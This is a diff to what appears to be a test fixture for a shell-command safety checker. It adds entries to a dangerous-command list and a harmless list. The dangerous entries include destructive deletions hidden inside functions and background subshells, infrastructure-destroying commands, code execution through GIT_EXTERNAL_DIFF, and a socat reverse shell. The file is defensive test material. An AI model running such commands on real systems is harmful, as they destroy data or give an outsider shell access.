@@ -48,7 +48,10 @@ echo x | at now
 tar xf a -C / ;; unzip a -d /usr ;; sed -i s/a/b/ /etc/hosts ;; sed 's/a/b/e' x ;; python manage.py flush ;; perl -e '`rm x`'
 python -c "open('/etc/x', 'w')" ;; python -c "import os; getattr(os, 'sys' + 'tem')('x')" ;; node -e 'fs.unlinkSync("x")'
 ls | xargs sh -c ;; ls | xargs python ;; NODE_OPTIONS='--require ./x.js' node a ;; aria2c a
-python -c "import os; os.remove('a')"
+python -c "import os; os.remove('a')" ;; function f { rm -rf x; }; f ;; (sleep 1; rm -rf x) & ;; curl.exe a
+socat exec:sh tcp:a:1
+deno eval "Deno.removeSync('x')" ;; terraform apply -destroy ;; npx prisma migrate reset ;; perl -pi -e s/a/b/ /etc/hosts
+GIT_EXTERNAL_DIFF='rm -rf x' git diff ;; npm unpublish a ;; perl -e 'unlink "a"' ;; f() { f; rm -rf x; }; f
 ruby -e 'FileUtils.rm_rf("x")' ;; php -r 'system("rm x");'
 """
 HARMLESS = r"""
@@ -80,6 +83,8 @@ docker run --rm -v "$PWD":/a b ;; docker compose down ;; docker rm -f web ;; kil
 scp a b:
 unzip a -d b ;; tar xf a -C b ;; sed -i s/a/b/ x ;; python manage.py migrate ;; python -c "a = [1]; a.remove(1); open('x', 'w')"
 chmod 644 a
+build() { npm run build; }; build ;; (cd a && npm run dev) & ;; (ls; ls) | wc ;; (ls) && ls
+rsync -an --delete a/ b/ ;; npm run clean
 apt install curl ;; mytool rm x ;; git worktree remove a ;; cat a > b ;; 2> a.log ls ;; ls 2> a.log
 NODE_OPTIONS=--inspect node a
 time -p ls ;; strace -c ls ;; echo "$HOME" ;; cd $HOME ;; ls > "$TMPDIR/x" ;; cat a | base64 -d
